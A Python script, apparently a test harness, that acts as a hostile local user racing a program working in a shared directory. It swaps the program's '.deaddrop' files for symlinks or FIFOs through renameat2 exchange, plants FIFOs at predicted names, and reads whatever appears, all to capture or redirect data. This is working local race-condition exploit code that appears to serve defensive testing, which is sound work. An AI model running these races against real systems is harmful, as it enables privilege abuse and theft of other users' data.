"""What a user of the node may try against a run: the owner of DIRECTORY, in a tight loop, for at most SECONDS. Prints what it has read.

    racer.py ATTACK DIRECTORY SECONDS [VICTIM]

links   swaps every name of the run for a link to VICTIM, and back
fifos   makes FIFOs of the names that the run may use next, and reads them
reads   reads whatever appears in the directory and below
flips   makes the file VICTIM of the directory a FIFO and again itself
"""

import contextlib
import ctypes
import os
import sys
import time

attack, directory, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
victim = sys.argv[4] if len(sys.argv) > 4 else ""
os.chdir(directory)
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE, AT_FDCWD = 2, -100
end = time.time() + seconds
shown = set()


def exchange(one, other):
    return libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), EXCHANGE) == 0


def ours(where="."):
    with contextlib.suppress(OSError):
        return [name for name in os.listdir(where) if name.startswith(".deaddrop")]
    return []


def show(data):
    if data and data not in shown:
        shown.add(data)
        print("READ", data, flush=True)


def links():
    own = ".laid"
    with contextlib.suppress(OSError):
        os.symlink(victim, own)
    while time.time() < end:
        for name in ours():
            exchange(own, name)
            exchange(own, name)
            if not os.path.islink(own):
                with contextlib.suppress(OSError):
                    os.rename(own, f".taken{time.time()}")
                with contextlib.suppress(OSError):
                    os.symlink(victim, own)


def fifos():
    held = {}
    while time.time() < end:
        for name in ours():
            stem = name.rsplit("-", 1)[0] if name.count("-") > 1 else name
            for made in [f"{stem}-{number}n" for number in range(8, 1, -1)] + [f"{stem}/n", f"{stem}/o", f"{stem}/n/roots7"]:
                with contextlib.suppress(OSError):
                    os.mkfifo(made, 0o666)
                    held[os.open(made, os.O_RDONLY | os.O_NONBLOCK)] = made
        for descriptor in held:
            with contextlib.suppress(OSError):
                show(os.read(descriptor, 65536))


def reads():
    while time.time() < end:
        for place, _, names in os.walk("."):
            for name in names:
                with contextlib.suppress(OSError), open(os.path.join(place, name), "rb") as file:
                    show(file.read())


def flips():
    with contextlib.suppress(OSError):
        os.mkfifo(".fifo")
    while time.time() < end:
        exchange(".fifo", victim)
        exchange(".fifo", victim)


print("ready", flush=True)
{"links": links, "fifos": fifos, "reads": reads, "flips": flips}[attack]()
